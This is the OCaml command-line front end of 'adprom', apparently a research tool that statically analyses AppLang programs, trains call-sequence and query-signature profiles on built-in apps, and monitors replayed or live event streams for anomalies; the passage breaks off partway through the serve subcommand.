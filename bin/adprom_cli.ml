(* adprom — command-line front end.

   Subcommands:
     analyze  <file>   static phase: CFGs, DDG labels, CTMs, pCTM
     run      <file>   interpret a program, printing the call trace
     demo     <app>    train on a built-in app and replay its attack
     list-apps         list the built-in subject applications *)

open Cmdliner

let read_file path =
  let ic = open_in_bin path in
  let n = in_channel_length ic in
  let s = really_input_string ic n in
  close_in ic;
  s

let builtin_apps () =
  [
    ("hospital", Dataset.Ca_hospital.app ());
    ("banking", Dataset.Ca_banking.app ());
    ("supermarket", Dataset.Ca_supermarket.app ());
    ("grep", Dataset.Sir.app1 ());
    ("gzip", Dataset.Sir.app2 ());
    ("sed", Dataset.Sir.app3 ());
    ("bash", Dataset.Sir.app4 ());
    ("webportal", Dataset.Web_portal.app ());
  ]

(* --- analyze ----------------------------------------------------------- *)

let analyze_cmd_run file verbose dot_dir =
  let source = read_file file in
  let program = Applang.Parser.parse_program source in
  let analysis = Analysis.Analyzer.analyze program in
  Printf.printf "functions: %d\n" (List.length analysis.Analysis.Analyzer.cfgs);
  List.iter
    (fun (name, cfg) ->
      Printf.printf "  %-24s %3d blocks, %2d call sites\n" name
        (List.length (Analysis.Cfg.node_ids cfg))
        (List.length (Analysis.Cfg.call_nodes cfg)))
    analysis.Analysis.Analyzer.cfgs;
  let labeled = analysis.Analysis.Analyzer.taint.Analysis.Taint.labeled_blocks in
  Printf.printf "DB-output labels (DDG): %s\n"
    (if labeled = [] then "none"
     else String.concat ", " (List.map (Printf.sprintf "block %d") labeled));
  Printf.printf "pCTM: %d call sites, invariants hold: %b\n"
    (List.length (Analysis.Ctm.calls analysis.Analysis.Analyzer.pctm))
    (Analysis.Ctm.conserved analysis.Analysis.Analyzer.pctm);
  if verbose then begin
    print_endline "--- pCTM ---";
    Format.printf "%a@." Analysis.Ctm.pp analysis.Analysis.Analyzer.pctm
  end;
  (match dot_dir with
  | None -> ()
  | Some dir ->
      if not (Sys.file_exists dir) then Sys.mkdir dir 0o755;
      let write name contents =
        let oc = open_out (Filename.concat dir name) in
        output_string oc contents;
        close_out oc
      in
      List.iter
        (fun (name, cfg) -> write (name ^ ".dot") (Analysis.Export.cfg_to_dot cfg))
        analysis.Analysis.Analyzer.cfgs;
      write "pctm.dot" (Analysis.Export.ctm_to_dot analysis.Analysis.Analyzer.pctm);
      write "callgraph.dot"
        (Analysis.Export.callgraph_to_dot analysis.Analysis.Analyzer.callgraph);
      Printf.printf "Graphviz files written to %s/
" dir);
  `Ok ()

let file_arg =
  Arg.(required & pos 0 (some file) None & info [] ~docv:"FILE" ~doc:"AppLang source file.")

let verbose_flag = Arg.(value & flag & info [ "v"; "verbose" ] ~doc:"Print the full pCTM.")

let dot_arg =
  Arg.(
    value
    & opt (some string) None
    & info [ "dot" ] ~docv:"DIR" ~doc:"Write Graphviz files (CFGs, pCTM, call graph) to DIR.")

let analyze_cmd =
  Cmd.v
    (Cmd.info "analyze" ~doc:"Statically analyze an AppLang program (CFG, DDG, pCTM).")
    Term.(ret (const analyze_cmd_run $ file_arg $ verbose_flag $ dot_arg))

(* --- vet --------------------------------------------------------------- *)

let collect_app_files paths =
  List.concat_map
    (fun path ->
      if Sys.is_directory path then
        Sys.readdir path |> Array.to_list |> List.sort compare
        |> List.filter (fun f -> Filename.check_suffix f ".app")
        |> List.map (Filename.concat path)
      else [ path ])
    paths

let vet_one ~entry ~profile ~qsig_signatures path =
  let module Diag = Analysis.Diag in
  match Applang.Parser.parse_program (read_file path) with
  | exception e ->
      [ Diag.make Diag.Error ~code:"parse-error" (Printexc.to_string e) ]
  | program -> (
      (* the query-axis cross-check rides along when a trained qsig
         profile was given: its signatures against the statically
         inferable set *)
      let qsig_diags sq =
        match qsig_signatures with
        | None -> []
        | Some trained ->
            Analysis.Vet.check_qsig_coverage ~static_queries:sq
              ~trained_signatures:trained
      in
      match profile with
      | None ->
          let cfgs, _sites = Analysis.Cfg_build.build_program program in
          (* labeling is irrelevant to the program checks but keeps the
             CFGs in the same state `analyze` would leave them *)
          ignore (Analysis.Taint.analyze cfgs);
          let sq = Analysis.Qstatic.infer ~entry cfgs in
          List.sort Diag.compare
            (Analysis.Vet.check_program ~entry ~static_queries:sq cfgs
            @ qsig_diags sq)
      | Some p -> (
          match Analysis.Analyzer.analyze ~entry program with
          | exception Invalid_argument msg ->
              [ Diag.make Diag.Error ~code:"analysis-error" msg ]
          | analysis ->
              let qdiags =
                if qsig_signatures = None then []
                else
                  qsig_diags
                    (Analysis.Qstatic.infer ~entry
                       analysis.Analysis.Analyzer.pruned_cfgs)
              in
              List.sort Diag.compare
                (Adprom.Profile_check.check ~entry p analysis @ qdiags)))

let vet_cmd_run paths format strict entry profile_path qsig_profile_path =
  let module Diag = Analysis.Diag in
  let module Json = Adprom_obs.Json in
  let profile =
    match profile_path with
    | None -> Ok None
    | Some p -> (
        match Adprom.Profile_io.load p with
        | Ok pr -> Ok (Some pr)
        | Error e -> Error e)
  in
  let qsig_signatures =
    match qsig_profile_path with
    | None -> Ok None
    | Some p -> (
        match Adprom_qsig.Profile.load p with
        | Ok qp -> Ok (Some (Adprom_qsig.Profile.signatures qp))
        | Error e -> Error e)
  in
  match (profile, qsig_signatures) with
  | Error msg, _ -> `Error (false, Printf.sprintf "cannot load profile: %s" msg)
  | _, Error msg ->
      `Error (false, Printf.sprintf "cannot load qsig profile: %s" msg)
  | Ok profile, Ok qsig_signatures -> (
      match collect_app_files paths with
      | [] -> `Error (false, "no AppLang (.app) files to vet")
      | files ->
          let results =
            List.map
              (fun f -> (f, vet_one ~entry ~profile ~qsig_signatures f))
              files
          in
          (match format with
          | `Text ->
              List.iter
                (fun (file, diags) ->
                  List.iter
                    (fun d -> Printf.printf "%s: %s\n" file (Diag.to_string d))
                    diags;
                  Printf.printf "%s: %s\n" file (Diag.summary diags))
                results
          | `Json ->
              let file_json (file, diags) =
                Json.obj
                  [
                    ("file", Json.string file);
                    ("summary", Json.string (Diag.summary diags));
                    ("errors", string_of_int (List.length (Diag.errors diags)));
                    ("warnings", string_of_int (List.length (Diag.warnings diags)));
                    ("hints", string_of_int (List.length (Diag.hints diags)));
                    ( "diagnostics",
                      "[" ^ String.concat "," (List.map Diag.to_json diags) ^ "]" );
                  ]
              in
              print_endline ("[" ^ String.concat ",\n" (List.map file_json results) ^ "]"));
          let all = List.concat_map snd results in
          (* hints never fail, not even under --strict *)
          if Diag.errors all <> [] || (strict && Diag.warnings all <> []) then
            `Error (false, Printf.sprintf "vet failed: %s" (Diag.summary all))
          else `Ok ())

let vet_paths_arg =
  Arg.(
    non_empty & pos_all file []
    & info [] ~docv:"PATH"
        ~doc:"AppLang source files, or directories containing .app files.")

let vet_format_arg =
  Arg.(
    value
    & opt (enum [ ("text", `Text); ("json", `Json) ]) `Text
    & info [ "format" ] ~docv:"FMT" ~doc:"Output format: $(b,text) or $(b,json).")

let strict_flag =
  Arg.(
    value & flag
    & info [ "strict" ] ~doc:"Fail on warnings too, not only on errors.")

let entry_arg =
  Arg.(
    value & opt string "main"
    & info [ "entry" ] ~docv:"FUNC"
        ~doc:"Entry function for the reachability checks.")

let vet_profile_path_arg =
  Arg.(
    value
    & opt (some file) None
    & info [ "profile" ] ~docv:"PROFILE"
        ~doc:
          "Also cross-check a stored profile (see `adprom train`): its alphabet and \
           known (caller, call) pairs must be statically reachable, and reachable \
           behaviour the profile never saw is reported as a training gap.")

let vet_qsig_profile_path_arg =
  Arg.(
    value
    & opt (some file) None
    & info [ "qsig-profile" ] ~docv:"FILE"
        ~doc:
          "Also cross-check a trained query-signature profile (see `adprom qsig \
           train`) against the statically inferable signature set: trained \
           signatures the program cannot emit are errors, emittable signatures \
           never observed in training are hints.")

let vet_cmd =
  Cmd.v
    (Cmd.info "vet"
       ~doc:
         "Statically verify AppLang programs: dead code, use-before-init, undefined \
          callees, loops with no reachable exit, SQL call sites where untrusted \
          input reaches query structure — and, with $(b,--profile) or \
          $(b,--qsig-profile), profile coverage against the statically possible \
          behaviour. Exits non-zero on errors (with $(b,--strict): on warnings \
          too; hints never fail).")
    Term.(
      ret
        (const vet_cmd_run $ vet_paths_arg $ vet_format_arg $ strict_flag $ entry_arg
       $ vet_profile_path_arg $ vet_qsig_profile_path_arg))

(* --- run --------------------------------------------------------------- *)

let run_cmd_run file inputs show_trace =
  let source = read_file file in
  let program = Applang.Parser.parse_program source in
  let analysis = Analysis.Analyzer.analyze program in
  let engine = Sqldb.Engine.create () in
  let tc = Runtime.Testcase.make ~input:inputs "cli-run" in
  let trace, outcome = Runtime.Interp.collect_trace ~analysis ~engine tc in
  print_string outcome.Runtime.Interp.stdout;
  (match outcome.Runtime.Interp.status with
  | Ok () -> ()
  | Error msg -> Printf.eprintf "runtime error: %s\n" msg);
  if show_trace then begin
    Printf.printf "--- trace (%d library calls) ---\n" (Array.length trace);
    Array.iter
      (fun (e : Runtime.Collector.event) ->
        Printf.printf "%-24s from %s\n"
          (Analysis.Symbol.to_string e.Runtime.Collector.symbol)
          e.Runtime.Collector.caller)
      trace
  end;
  `Ok ()

let inputs_arg =
  Arg.(
    value & opt_all string []
    & info [ "i"; "input" ] ~docv:"LINE" ~doc:"A line of scripted stdin (repeatable).")

let trace_flag = Arg.(value & flag & info [ "t"; "trace" ] ~doc:"Print the library-call trace.")

let run_cmd =
  Cmd.v
    (Cmd.info "run" ~doc:"Interpret an AppLang program under the Calls Collector.")
    Term.(ret (const run_cmd_run $ file_arg $ inputs_arg $ trace_flag))

(* --- demo -------------------------------------------------------------- *)

let demo_cmd_run app_name =
  match List.assoc_opt app_name (builtin_apps ()) with
  | None ->
      `Error (false, Printf.sprintf "unknown app %S; try `adprom list-apps`" app_name)
  | Some app ->
      Printf.printf "Collecting normal traces of %s ...\n%!" app.Adprom.Pipeline.name;
      let dataset = Adprom.Pipeline.collect app in
      Printf.printf "Training the profile (%d sequences) ...\n%!"
        (List.length dataset.Adprom.Pipeline.windows);
      let engine = Adprom.Pipeline.train_engine dataset in
      let profile = Adprom.Scoring.profile engine in
      Printf.printf "Profile ready: %d states, threshold %.3f\n"
        profile.Adprom.Profile.clustering.Adprom.Reduction.states
        profile.Adprom.Profile.threshold;
      let attacks =
        List.filter
          (fun (c : Dataset.Ca_attacks.case) ->
            c.Dataset.Ca_attacks.app.Adprom.Pipeline.name = app.Adprom.Pipeline.name)
          (Dataset.Ca_attacks.all ())
      in
      if attacks = [] then
        Printf.printf "(no built-in attack scenario targets this app)\n"
      else
        List.iter
          (fun (c : Dataset.Ca_attacks.case) ->
            let traces = Attack.Scenario.run c.Dataset.Ca_attacks.scenario app in
            let verdicts =
              List.concat_map
                (fun (_, t) -> List.map snd (Adprom.Scoring.monitor engine t))
                traces
            in
            Printf.printf "%s -> %s\n" c.Dataset.Ca_attacks.label
              (Adprom.Detector.flag_to_string (Adprom.Detector.worst verdicts)))
          attacks;
      `Ok ()

let app_arg =
  Arg.(
    required
    & pos 0 (some string) None
    & info [] ~docv:"APP" ~doc:"Built-in app name (see list-apps).")

let demo_cmd =
  Cmd.v
    (Cmd.info "demo" ~doc:"Train on a built-in app and replay its attack scenarios.")
    Term.(ret (const demo_cmd_run $ app_arg))

(* --- train ------------------------------------------------------------- *)

let train_cmd_run app_name output =
  match List.assoc_opt app_name (builtin_apps ()) with
  | None -> `Error (false, Printf.sprintf "unknown app %S; try `adprom list-apps`" app_name)
  | Some app ->
      Printf.printf "Collecting traces and training %s ...\n%!" app.Adprom.Pipeline.name;
      let dataset = Adprom.Pipeline.collect app in
      let profile = Adprom.Pipeline.train dataset in
      Adprom.Profile_io.save profile output;
      Printf.printf "Profile written to %s (%d states, %d observables, threshold %.3f)\n"
        output
        profile.Adprom.Profile.clustering.Adprom.Reduction.states
        (Array.length profile.Adprom.Profile.alphabet)
        profile.Adprom.Profile.threshold;
      `Ok ()

let output_arg =
  Arg.(
    value
    & opt string "app.profile"
    & info [ "o"; "output" ] ~docv:"FILE" ~doc:"Where to store the serialized profile.")

let train_cmd =
  Cmd.v
    (Cmd.info "train" ~doc:"Train a profile for a built-in app and save it to disk.")
    Term.(ret (const train_cmd_run $ app_arg $ output_arg))

(* --- check ------------------------------------------------------------- *)

let check_cmd_run profile_path file inputs =
  match Adprom.Profile_io.load profile_path with
  | Error msg -> `Error (false, Printf.sprintf "cannot load profile: %s" msg)
  | Ok profile ->
      let source = read_file file in
      let program = Applang.Parser.parse_program source in
      let analysis = Analysis.Analyzer.analyze program in
      let engine = Sqldb.Engine.create () in
      let tc = Runtime.Testcase.make ~input:inputs "cli-check" in
      let trace, outcome = Runtime.Interp.collect_trace ~analysis ~engine tc in
      (match outcome.Runtime.Interp.status with
      | Ok () -> ()
      | Error msg -> Printf.eprintf "runtime error: %s\n" msg);
      let scoring = Adprom.Scoring.create profile in
      let verdicts = Adprom.Scoring.monitor scoring trace in
      let worst = Adprom.Detector.worst (List.map snd verdicts) in
      List.iter
        (fun ((w : Adprom.Window.t), (v : Adprom.Detector.verdict)) ->
          if v.Adprom.Detector.flag <> Adprom.Detector.Normal then begin
            Printf.printf "ALERT %-14s score=%s%s\n"
              (Adprom.Detector.flag_to_string v.Adprom.Detector.flag)
              (Adprom.Report.float_cell v.Adprom.Detector.score)
              (match v.Adprom.Detector.unknown_pair with
              | Some (caller, sym) ->
                  Printf.sprintf " (out of context: %s from %s)"
                    (Analysis.Symbol.to_string sym) caller
              | None -> "");
            match Adprom.Detector.explain ~top:1 profile w with
            | [ s ] ->
                Printf.printf "      most surprising: %s from %s (position %d)\n"
                  (Analysis.Symbol.to_string s.Adprom.Detector.symbol)
                  s.Adprom.Detector.caller s.Adprom.Detector.position
            | _ -> ()
          end)
        verdicts;
      Printf.printf "%d window(s) scored; overall verdict: %s\n" (List.length verdicts)
        (Adprom.Detector.flag_to_string worst);
      `Ok ()

let profile_arg =
  Arg.(
    required
    & pos 0 (some file) None
    & info [] ~docv:"PROFILE" ~doc:"Serialized profile (see `adprom train`).")

let check_file_arg =
  Arg.(required & pos 1 (some file) None & info [] ~docv:"FILE" ~doc:"AppLang source file.")

let check_cmd =
  Cmd.v
    (Cmd.info "check" ~doc:"Monitor one run of a program against a stored profile.")
    Term.(ret (const check_cmd_run $ profile_arg $ check_file_arg $ inputs_arg))

(* --- record / replay / serve: the online monitoring daemon ------------- *)

module Service = Adprom_service

let shards_arg =
  Arg.(
    value & opt int 4
    & info [ "shards" ] ~docv:"N" ~doc:"Worker domains of the daemon (one shard each).")

let capacity_arg =
  Arg.(
    value & opt int 4096
    & info [ "capacity" ] ~docv:"N"
        ~doc:"Bounded per-shard queue capacity; overflowing sessions are shed.")

let seed_arg =
  Arg.(value & opt int 42 & info [ "seed" ] ~docv:"SEED" ~doc:"Interleaving RNG seed.")

let vet_policy_conv =
  let parse s =
    match Adprom.Profile_check.policy_of_string s with
    | Some p -> Ok p
    | None -> Error (`Msg (Printf.sprintf "unknown vet policy %S (off|warn|enforce)" s))
  in
  Arg.conv
    ( parse,
      fun ppf p -> Format.pp_print_string ppf (Adprom.Profile_check.policy_to_string p) )

let vet_policy_arg =
  Arg.(
    value
    & opt vet_policy_conv Adprom.Profile_check.Warn
    & info [ "vet-profile" ] ~docv:"POLICY"
        ~doc:
          "Vet the profile against the program's static analysis before monitoring: \
           $(b,off), $(b,warn) (log and count findings, serve anyway), or \
           $(b,enforce) (refuse a profile with error-class findings).")

let static_gate_conv =
  let parse s =
    match Service.Daemon.gate_mode_of_string s with
    | Some m -> Ok m
    | None ->
        Error (`Msg (Printf.sprintf "unknown static-gate mode %S (off|explain|enforce)" s))
  in
  Arg.conv
    ( parse,
      fun ppf m -> Format.pp_print_string ppf (Service.Daemon.gate_mode_to_string m) )

let static_gate_arg =
  Arg.(
    value
    & opt static_gate_conv Service.Daemon.Gate_explain
    & info [ "static-gate" ] ~docv:"MODE"
        ~doc:
          "Call-sequence automaton gate (needs a vetted program): $(b,off) (PR 4 \
           behaviour), $(b,explain) (load the DFA for explanations and gate metrics, \
           verdicts unchanged), or $(b,enforce) (statically impossible windows \
           short-circuit to an anomalous verdict without a forward pass).")

let qsig_mode_conv =
  let parse s =
    match Service.Daemon.qsig_mode_of_string s with
    | Some m -> Ok m
    | None ->
        Error (`Msg (Printf.sprintf "unknown qsig mode %S (off|warn|enforce)" s))
  in
  Arg.conv
    ( parse,
      fun ppf m -> Format.pp_print_string ppf (Service.Daemon.qsig_mode_to_string m) )

let qsig_mode_arg =
  Arg.(
    value
    & opt qsig_mode_conv Service.Daemon.Qsig_off
    & info [ "qsig" ] ~docv:"MODE"
        ~doc:
          "Query-signature detection axis over the stream's executed-query lines: \
           $(b,off) (ignore them — sequence verdicts bit-for-bit unchanged), \
           $(b,warn) (check under the flexible constraint policy; anomalies become \
           incidents and metrics), or $(b,enforce) (strict policy — a superset of \
           warn's anomalies).")

let qsig_profile_path_arg =
  Arg.(
    value
    & opt (some file) None
    & info [ "qsig-profile" ] ~docv:"FILE"
        ~doc:"Trained query-signature profile (see `adprom qsig train`).")

let qsig_static_gate_arg =
  Arg.(
    value
    & opt static_gate_conv Service.Daemon.Gate_explain
    & info [ "qsig-static-gate" ] ~docv:"MODE"
        ~doc:
          "Static query-signature gate over the query axis (needs a vetted \
           program and an armed $(b,--qsig)): $(b,off), $(b,explain) (infer the \
           program's emittable signature set, count gate checks and would-be \
           rejections, query verdicts unchanged), or $(b,enforce) (a query whose \
           signature the program provably cannot emit short-circuits to an \
           anomalous verdict before constraint checking).")

(* --- observability flags (shared by replay / serve) -------------------- *)

let trace_out_arg =
  Arg.(
    value
    & opt (some string) None
    & info [ "trace-out" ] ~docv:"FILE"
        ~doc:
          "Enable tracing and write the span tree as Chrome trace_event JSON \
           (chrome://tracing, Perfetto) to FILE on exit.")

let log_tail_arg =
  Arg.(
    value & opt int 0
    & info [ "log-tail" ] ~docv:"N"
        ~doc:"Print the last N structured events from the daemon's per-shard rings.")

let log_level_conv =
  let parse s =
    match Adprom_obs.Log.level_of_string s with
    | Some l -> Ok l
    | None -> Error (`Msg (Printf.sprintf "unknown log level %S" s))
  in
  Arg.conv (parse, fun ppf l -> Format.pp_print_string ppf (Adprom_obs.Log.level_to_string l))

let log_level_arg =
  Arg.(
    value
    & opt (some log_level_conv) None
    & info [ "log-level" ] ~docv:"LEVEL"
        ~doc:
          "Emit structured events at LEVEL and above (debug|info|warn|error) as JSONL \
           on stderr. Without this flag the log sink stays off.")

let log_file_arg =
  Arg.(
    value
    & opt (some string) None
    & info [ "log-file" ] ~docv:"FILE"
        ~doc:
          "Append structured JSONL events to FILE instead of stderr (implies \
           $(b,--log-level) info unless given).")

let log_max_bytes_arg =
  Arg.(
    value
    & opt (some int) None
    & info [ "log-max-bytes" ] ~docv:"BYTES"
        ~doc:
          "Rotate the $(b,--log-file) sink: when the next line would push the file \
           past BYTES it is renamed to FILE.1 (replacing any previous generation) \
           and a fresh FILE is started, bounding disk use at roughly twice BYTES.")

let obs_setup ?log_file ?log_max_bytes log_level trace_out =
  (match (log_level, log_file) with
  | None, None -> ()
  | lvl, file -> (
      Adprom_obs.Log.set_threshold
        (Option.value ~default:Adprom_obs.Log.Info lvl);
      match file with
      | Some path -> Adprom_obs.Log.to_file ?max_bytes:log_max_bytes path
      | None -> Adprom_obs.Log.set_sink Adprom_obs.Log.Stderr));
  if trace_out <> None then Adprom_obs.Trace.set_enabled true

let obs_finish trace_out =
  match trace_out with
  | None -> ()
  | Some path ->
      Adprom_obs.Trace.dump_chrome path;
      Printf.printf "\n%d spans -> %s\n" (List.length (Adprom_obs.Trace.spans ())) path

let print_events_tail n (events : Adprom_obs.Log.event list) =
  if n > 0 then begin
    let len = List.length events in
    let tail = List.filteri (fun i _ -> i >= len - n) events in
    Printf.printf "\n--- recent events (%d of %d) ---\n" (List.length tail) len;
    if tail = [] then print_endline "(none)"
    else List.iter (fun e -> print_endline (Adprom_obs.Log.event_to_string e)) tail
  end

let print_summary ?(labels = []) ?alerts (summary : Service.Daemon.summary) =
  let label s = match List.assoc_opt s labels with Some l -> l | None -> "" in
  let qsig_on =
    List.exists
      (fun (r : Service.Daemon.session_report) -> r.Service.Daemon.qsig_checks > 0)
      summary.Service.Daemon.sessions
  in
  let header = [ "session"; "label"; "events"; "windows"; "verdict" ] in
  let header = if qsig_on then header @ [ "queries"; "axes" ] else header in
  Adprom.Report.print ~header
    (List.map
       (fun (r : Service.Daemon.session_report) ->
         let row =
           [
             string_of_int r.Service.Daemon.session;
             label r.Service.Daemon.session;
             string_of_int r.Service.Daemon.events;
             string_of_int r.Service.Daemon.windows;
             Adprom.Detector.flag_to_string r.Service.Daemon.worst;
           ]
         in
         if not qsig_on then row
         else
           row
           @ [
               Printf.sprintf "%d/%d anomalous" r.Service.Daemon.qsig_anomalies
                 r.Service.Daemon.qsig_checks;
               (match alerts with
               | Some a ->
                   Service.Alerts.fused_to_string
                     (Service.Alerts.fused_axes a
                        ~session:r.Service.Daemon.session)
               | None -> "");
             ])
       summary.Service.Daemon.sessions);
  if summary.Service.Daemon.shed <> [] then begin
    Printf.printf "\nShed sessions (queue overload — whole sessions, never single events):\n";
    List.iter
      (fun (s, dropped, discarded) ->
        Printf.printf "  session %d%s: %d events dropped, %d accepted events discarded\n" s
          (match label s with "" -> "" | l -> " (" ^ l ^ ")")
          dropped discarded)
      summary.Service.Daemon.shed
  end;
  Printf.printf "\nevents: offered %d, ingested %d, dropped %d\n"
    summary.Service.Daemon.events_offered summary.Service.Daemon.events_ingested
    summary.Service.Daemon.events_dropped

let print_outcome ?labels ?(log_tail = 0) (outcome : Service.Replay.outcome) =
  print_summary ?labels ~alerts:outcome.Service.Replay.alerts
    outcome.Service.Replay.summary;
  Printf.printf "\n--- incident log (%d incidents) ---\n"
    (Service.Alerts.count outcome.Service.Replay.alerts);
  (match Service.Alerts.to_string outcome.Service.Replay.alerts with
  | "" -> print_endline "(empty)"
  | log -> print_endline log);
  print_events_tail log_tail outcome.Service.Replay.events_tail;
  Printf.printf "\n--- metrics ---\n%s" (Service.Metrics.dump outcome.Service.Replay.metrics);
  Printf.printf "\nthroughput: %.0f events/sec (%.3fs)\n"
    (Service.Replay.throughput outcome)
    outcome.Service.Replay.seconds

let wire_conv =
  let parse s =
    match Service.Transport.wire_of_string s with
    | Some w -> Ok w
    | None -> Error (`Msg (Printf.sprintf "unknown wire format %S (text|binary)" s))
  in
  Arg.conv
    (parse, fun ppf w -> Format.pp_print_string ppf (Service.Transport.wire_to_string w))

let wire_arg =
  Arg.(
    value
    & opt wire_conv Service.Transport.Line
    & info [ "wire" ] ~docv:"FMT"
        ~doc:
          "Record file format: $(b,text) (the greppable line format) or $(b,binary) \
           (length-prefixed frames — what the cluster speaks, and several times \
           faster to encode and decode). `replay` and `route` autodetect either.")

(* Either record format: sniff the magic bytes, decode accordingly. *)
let decode_any data =
  Service.Transport.decode_all
    (Service.Frame.transport_of_wire (Service.Frame.detect data))
    data

let record_cmd_run app_name output sessions seed wire =
  match List.assoc_opt app_name (builtin_apps ()) with
  | None -> `Error (false, Printf.sprintf "unknown app %S; try `adprom list-apps`" app_name)
  | Some app ->
      let analysis = Adprom.Pipeline.analyze_app app in
      let cases = app.Adprom.Pipeline.test_cases in
      if cases = [] then `Error (false, "app has no test cases")
      else begin
        let runs =
          List.init sessions (fun i ->
              let tc = List.nth cases (i mod List.length cases) in
              Adprom.Pipeline.run_case ~analysis app tc)
        in
        let rng = Mlkit.Rng.create seed in
        let stream = Adprom.Sessions.interleave ~rng (List.map fst runs) in
        (* executed-query lines ride along after the call events: only
           per-session query order matters, and pre-qsig consumers skip
           them at decode *)
        let queries =
          List.concat
            (List.mapi
               (fun i (_, (o : Runtime.Interp.outcome)) ->
                 List.map
                   (fun (sql, rows) ->
                     Service.Codec.Query
                       { Service.Codec.q_session = i; rows; sql })
                   o.Runtime.Interp.query_log)
               runs)
        in
        let items =
          Array.append
            (Array.map (fun ev -> Service.Codec.Call ev) stream)
            (Array.of_list queries)
        in
        let oc = open_out_bin output in
        output_string oc
          (Service.Transport.encode_all (Service.Frame.transport_of_wire wire) items);
        close_out oc;
        Printf.printf "%d sessions, %d events, %d queries -> %s (%s)\n" sessions
          (Array.length stream) (List.length queries) output
          (Service.Transport.wire_to_string wire);
        `Ok ()
      end

let sessions_arg =
  Arg.(
    value & opt int 8
    & info [ "sessions" ] ~docv:"N" ~doc:"Number of concurrent sessions to simulate.")

let record_cmd =
  Cmd.v
    (Cmd.info "record"
       ~doc:
         "Run a built-in app as N concurrent sessions and write the interleaved host \
          stream in the daemon wire format.")
    Term.(
      ret
        (const record_cmd_run $ app_arg $ output_arg $ sessions_arg $ seed_arg
       $ wire_arg))

let replay_cmd_run profile_path events_path shards capacity verify vet_program
    vet_policy static_gate qsig_mode qsig_profile_path qsig_static_gate
    log_level log_tail trace_out =
  obs_setup log_level trace_out;
  match Adprom.Profile_io.load profile_path with
  | Error msg -> `Error (false, Printf.sprintf "cannot load profile: %s" msg)
  | Ok profile -> (
      match decode_any (read_file events_path) with
      | Error msg -> `Error (false, Printf.sprintf "cannot load events: %s" msg)
      | Ok items -> (
          let stream =
            Array.of_list
              (List.filter_map
                 (function Service.Codec.Call ev -> Some ev | _ -> None)
                 (Array.to_list items))
          in
          let vet_against =
            match vet_program with
            | None -> Ok None
            | Some f -> (
                match
                  Analysis.Analyzer.analyze (Applang.Parser.parse_program (read_file f))
                with
                | analysis -> Ok (Some analysis)
                | exception e -> Error (Printexc.to_string e))
          in
          let qsig_profile =
            match qsig_profile_path with
            | None -> Ok None
            | Some p -> (
                match Adprom_qsig.Profile.load p with
                | Ok qp -> Ok (Some qp)
                | Error e -> Error e)
          in
          match (vet_against, qsig_profile) with
          | Error msg, _ ->
              `Error (false, Printf.sprintf "cannot analyze --vet-program: %s" msg)
          | _, Error msg ->
              `Error (false, Printf.sprintf "cannot load --qsig-profile: %s" msg)
          | Ok vet_against, Ok qsig_profile ->
          match
            (* with the axis off, run over the pure event stream: the
               outcome is bit-for-bit the pre-qsig replay *)
            match qsig_mode with
            | Service.Daemon.Qsig_off ->
                Service.Replay.run ~shards ~queue_capacity:capacity ?vet_against
                  ~vet_policy ~static_gate profile stream
            | _ ->
                Service.Replay.run_items ~shards ~queue_capacity:capacity
                  ?vet_against ~vet_policy ~static_gate ~qsig_mode ?qsig_profile
                  ~qsig_static_gate profile items
          with
          | exception Invalid_argument msg -> `Error (false, msg)
          | outcome ->
          print_outcome ~log_tail outcome;
          obs_finish trace_out;
          if verify then begin
            let mismatches =
              Service.Replay.verify_against_batch profile stream
                outcome.Service.Replay.summary
            in
            if mismatches = [] then begin
              Printf.printf "\nverify: live verdicts match batch detection exactly\n";
              `Ok ()
            end
            else begin
              Printf.printf "\nverify: %d MISMATCHES\n" (List.length mismatches);
              List.iter
                (fun m -> print_endline ("  " ^ Service.Replay.mismatch_to_string m))
                mismatches;
              `Error (false, "daemon diverged from batch detection")
            end
          end
          else `Ok ()))

let events_file_arg =
  Arg.(
    required
    & pos 1 (some file) None
    & info [] ~docv:"EVENTS" ~doc:"Interleaved event stream (see `adprom record`).")

let verify_flag =
  Arg.(
    value & flag
    & info [ "verify" ]
        ~doc:"Check the streamed verdicts against batch detection on the demuxed traces.")

let vet_program_arg =
  Arg.(
    value
    & opt (some file) None
    & info [ "vet-program" ] ~docv:"FILE"
        ~doc:
          "AppLang source the profile claims to model: statically analyze it and vet \
           the profile against it under the $(b,--vet-profile) policy before replaying.")

let replay_cmd =
  Cmd.v
    (Cmd.info "replay"
       ~doc:
         "Stream a recorded multi-session event file through the monitoring daemon and \
          print per-session verdicts, incidents and metrics.")
    Term.(
      ret
        (const replay_cmd_run $ profile_arg $ events_file_arg $ shards_arg $ capacity_arg
       $ verify_flag $ vet_program_arg $ vet_policy_arg $ static_gate_arg
       $ qsig_mode_arg $ qsig_profile_path_arg $ qsig_static_gate_arg
       $ log_level_arg $ log_tail_arg $ trace_out_arg))

let serve_cmd_run app_name shards capacity seed vet_policy static_gate qsig_mode
    qsig_static_gate listen node_name log_level log_file log_max_bytes log_tail
    trace_out =
  match obs_setup ?log_file ?log_max_bytes log_level trace_out with
  | exception Invalid_argument msg -> `Error (false, msg)
  | () -> (
  match List.assoc_opt app_name (builtin_apps ()) with
  | None -> `Error (false, Printf.sprintf "unknown app %S; try `adprom list-apps`" app_name)
  | Some app when listen <> None -> (
      (* cluster node: train locally, then monitor whatever a router (or
         nc with a text record file) streams at the port *)
      let port = Option.get listen in
      Printf.printf "Training %s ...\n%!" app.Adprom.Pipeline.name;
      let dataset = Adprom.Pipeline.collect app in
      let profile = Adprom.Pipeline.train dataset in
      let analysis = dataset.Adprom.Pipeline.analysis in
      let qsig = Adprom.Pipeline.train_qsig app in
      match Service.Server.bind port with
      | exception Unix.Unix_error (e, _, _) ->
          `Error (false, Printf.sprintf "cannot listen on port %d: %s" port
                    (Unix.error_message e))
      | socket, port -> (
          Printf.printf "node %s listening on 127.0.0.1:%d ...\n%!" node_name port;
          match
            Service.Server.serve ~socket ~name:node_name ~shards
              ~queue_capacity:capacity ~vet_against:analysis ~vet_policy
              ~static_gate ~qsig_mode ~qsig_profile:(Adprom.Qsig.profile qsig)
              ~qsig_static_gate profile
          with
          | exception Invalid_argument msg -> `Error (false, msg)
          | outcome ->
              print_outcome ~log_tail outcome;
              obs_finish trace_out;
              `Ok ()))
  | Some app ->
      Printf.printf "Training %s ...\n%!" app.Adprom.Pipeline.name;
      let dataset = Adprom.Pipeline.collect app in
      let profile = Adprom.Pipeline.train dataset in
      let analysis = dataset.Adprom.Pipeline.analysis in
      (* Normal tenants: one session per test case, re-run to get the
         run-level outcomes the auditor needs. *)
      let normal =
        List.map
          (fun tc ->
            let trace, outcome = Adprom.Pipeline.run_case ~analysis app tc in
